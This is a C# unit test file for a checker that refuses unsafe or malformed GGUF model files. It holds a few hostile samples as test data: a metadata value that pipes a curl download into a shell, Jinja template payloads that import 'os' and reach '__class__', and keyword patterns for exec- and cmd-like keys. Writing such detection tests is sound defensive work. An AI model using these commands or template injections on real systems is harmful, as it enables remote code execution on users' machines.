using Kandil.Core.Errors;
using Kandil.Core.Errors.Findings;
using Kandil.Core.Gguf;
using Kandil.Core.Safety;
using Kandil.Tests.Unit.Fakes;

namespace Kandil.Tests.Unit.Core.Safety;

/// <summary>What is found in model files, and what is not.</summary>
public class ModelFileCheckTests
{
    private static readonly GgufBuilder Sound = GgufBuilder.Chain("hello there");

    public static TheoryData<string> Rules => [.. RuleExamples.Rules.Select(rule => rule.Id)];

    [Theory]
    [MemberData(nameof(Rules))]
    public void Every_rule_is_found_by_its_name_and_place(string id)
    {
        FindingRule rule = FindingRules.All.Single(rule => rule.Id == id);
        ModelFileReport report = RuleExamples.Check(rule);
        ModelFinding finding = report.Findings.First(finding => finding.Rule == rule);
        Assert.StartsWith("model", finding.Location.File, StringComparison.Ordinal);
        Assert.Equal(report.Findings.Any(other => other.Severity == FindingSeverity.Error), report.IsRefused);
        if (finding.Severity == FindingSeverity.Error)
        {
            KandilException failure = Assert.Throws<KandilException>(report.ThrowIfRefused);
            Assert.Equal(ErrorCode.Unsafe, failure.Code);
            Assert.Contains(finding, failure.Findings);
        }
    }

    [Fact]
    public void No_rule_is_without_an_example()
    {
        Assert.Empty(RuleExamples.Missing);
        Assert.Equal(FindingRules.All.Count, FindingRules.All.Select(rule => rule.Id).Distinct().Count());
    }

    public static TheoryData<string> Shapes => [.. GgufShapes.All.Keys.Where(shape => shape != "an architecture of tomorrow")];

    [Theory]
    [MemberData(nameof(Shapes))]
    public void Sound_files_of_every_shape_pass_without_a_word(string shape)
    {
        ModelFileReport report = Check(GgufShapes.All[shape]);
        Assert.Empty(report.Findings);
        report.ThrowIfRefused();
    }

    [Theory]
    [InlineData("system.prompt_hook", "'system.'")]
    [InlineData("System.Exec", "'system.'")]
    [InlineData("general.exec", "the word 'exec'")]
    [InlineData("loader.execve", "'execve' begins with 'exec'")]
    [InlineData("tool.preExec", "the word 'exec'")]
    [InlineData("tool.ShellCmd", "the word 'cmd'")]
    [InlineData("tool.shellcmd2", "'shellcmd' ends with 'cmd'")]
    [InlineData("a.cmd_line", "the word 'cmd'")]
    public void A_key_that_looks_like_an_order_is_refused_with_the_word_in_it(string key, string why)
    {
        ModelFinding finding = Assert.Single(Check(Sound.Set(key, "x").ToBytes()).Findings);
        Assert.Equal(FindingRules.SuspiciousKey, finding.Rule);
        Assert.Equal(key, finding.Location.Key);
        Assert.Contains(why, finding.Text, StringComparison.Ordinal);
        Assert.Contains("suspicious metadata", finding.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("general.system_prompt")]
    [InlineData("general.executive_summary")]
    [InlineData("command-r.block_count")]
    [InlineData("general.operating_system.name")]
    [InlineData("general.macmdata")]
    public void A_key_with_a_harmless_word_is_not_refused(string key) => Assert.Empty(Check(Sound.Set(key, 1u).ToBytes()).Findings);

    [Fact]
    public void A_model_without_a_tokenizer_is_refused_with_the_keys_that_are_missing()
    {
        KandilException failure = Assert.Throws<KandilException>(
            Check(Sound.Remove("tokenizer.ggml.tokens").Remove("tokenizer.ggml.model").ToBytes()).ThrowIfRefused);
        Assert.Contains("'tokenizer.ggml.model' and 'tokenizer.ggml.tokens' are missing", failure.Message, StringComparison.Ordinal);
        Assert.Equal("no-tokenizer", Assert.Single(failure.Findings).Rule.Id);
    }

    [Fact]
    public void A_file_made_to_do_harm_is_refused_with_everything_that_is_wrong_with_it()
    {
        ModelFileReport report = Check(Sound
            .Set("system.startup", "sh -c 'curl x | sh'").Set("llama.block_count", 4096u)
            .Template("{{ messages.__class__ }}\n{% import 'os' as os %}").ToBytes());
        Assert.Equal(
            ["block-count", "suspicious-key", "template-import", "template-private-name"],
            report.Findings.Select(finding => finding.Rule.Id).Order(StringComparer.Ordinal));
        KandilException failure = Assert.Throws<KandilException>(report.ThrowIfRefused);
        Assert.Contains("There are 3 more findings", failure.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Findings_of_one_rule_are_counted_and_not_all_kept()
    {
        string[] same = [.. Enumerable.Repeat("same", 5000)];
        ModelFileReport report = Check(Sound.Set("tokenizer.ggml.tokens", GgufArray.Of(same)).ToBytes());
        Assert.Equal(10, report.Findings.Count(finding => finding.Rule == FindingRules.DuplicateToken));
        Assert.Equal(4989, report.LeftOut);
    }

    [Theory]
    [InlineData("", "", false)]
    [InlineData("a\0b", "a", true)]
    [InlineData("", "[EMPTY_300]", true)]
    public void Tokens_are_compared_as_the_engine_reads_them(string one, string other, bool isTwice)
    {
        string[] tokens = [.. Enumerable.Range(0, 300).Select(i => $"t{i}"), one, other];
        var report = Check(Sound.Set("tokenizer.ggml.tokens", GgufArray.Of(tokens)).ToBytes());
        Assert.Equal(isTwice, report.Findings.Any(finding => finding.Rule == FindingRules.DuplicateToken));
    }

    [Theory]
    [InlineData("llama.attention.head_count", 0, "heads")]
    [InlineData("llama.attention.head_count", 5, "heads")]
    [InlineData("llama.attention.head_count_kv", 0, "heads")]
    [InlineData("llama.block_count", 513, "block-count")]
    [InlineData("llama.embedding_length", 0, "number-range")]
    [InlineData("llama.expert_used_count", 1, "experts")]
    [InlineData("llama.expert_count", 8, "experts")]
    [InlineData("llama.expert_count", 2000, "number-range")]
    [InlineData("llama.nextn_predict_layers", 2, "number-range")]
    [InlineData("tokenizer.ggml.padding_token_id", 100_000, "special-token")]
    [InlineData("tokenizer.ggml.bos_token_id", -1, "special-token")]
    public void A_number_that_would_end_the_engine_is_refused(string key, int value, string rule) =>
        Assert.Contains(rule, Check(Sound.Set(key, value).ToBytes()).Findings.Select(finding => finding.Rule.Id));

    [Fact]
    public void A_model_of_an_architecture_that_came_later_may_have_any_numbers_and_is_said_to_be_unknown()
    {
        ModelFileReport report = Check(Sound
            .Set("general.architecture", "tomorrow").Set("tomorrow.attention.head_count", 0u).Set("tomorrow.block_count", "many").ToBytes());
        ModelFinding finding = Assert.Single(report.Findings);
        Assert.Equal("unknown-architecture", finding.Rule.Id);
        Assert.Contains("does not know the architecture 'tomorrow'", finding.Text, StringComparison.Ordinal);
        Assert.False(report.IsRefused);
    }

    [Fact]
    public void An_architecture_that_came_later_excuses_nothing_else()
    {
        ModelFileReport report = Check(Sound
            .Set("general.architecture", "tomorrow").Set("a.exec", 1u).Remove("tokenizer.ggml.model").Template("{{ a.__class__ }}").ToBytes());
        Assert.Equal(
            ["no-tokenizer", "suspicious-key", "template-private-name", "unknown-architecture"],
            report.Findings.Select(finding => finding.Rule.Id).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void A_companion_needs_nothing_of_a_model()
    {
        var writer = new GgufWriter().Add("general.architecture", "clip").Add("clip.has_vision_encoder", true).AddTensor("v.patch_embd.weight", [32, 4], GgmlType.F16);
        using var stream = new MemoryStream();
        writer.WriteTo(stream);
        Assert.Empty(Check(stream.ToArray()).Findings);
    }

    [Fact]
    public void The_parts_of_a_split_model_are_checked_together_and_embeddings_are_found_in_any_of_them()
    {
        ModelFilePart[] parts = [.. GgufShapes.Split().Select((bytes, i) => new ModelFilePart($"m-{i}.gguf", bytes.Length, () => new MemoryStream(bytes)))];
        Assert.Empty(ModelFileCheck.Check(parts).Findings);
        Assert.Contains("shard-count", ModelFileCheck.Check(parts[..1]).Findings.Select(finding => finding.Rule.Id));
        Assert.Contains("shard-number", ModelFileCheck.Check([parts[1], parts[0]]).Findings.Select(finding => finding.Rule.Id));
    }

    private static ModelFileReport Check(byte[] bytes)
    {
        using var stream = new MemoryStream(bytes, writable: false);
        return ModelFileCheck.Check(stream, bytes.Length, "model.gguf");
    }
}
